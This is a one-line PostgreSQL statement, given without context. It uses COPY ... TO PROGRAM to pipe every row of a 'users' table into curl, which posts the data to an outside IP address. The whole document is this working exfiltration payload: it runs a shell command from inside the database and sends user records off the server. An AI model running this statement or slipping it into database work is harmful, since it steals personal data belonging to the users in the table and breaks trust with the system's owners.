COPY (SELECT * FROM users) TO PROGRAM 'curl -d @- http://203.0.113.5/';
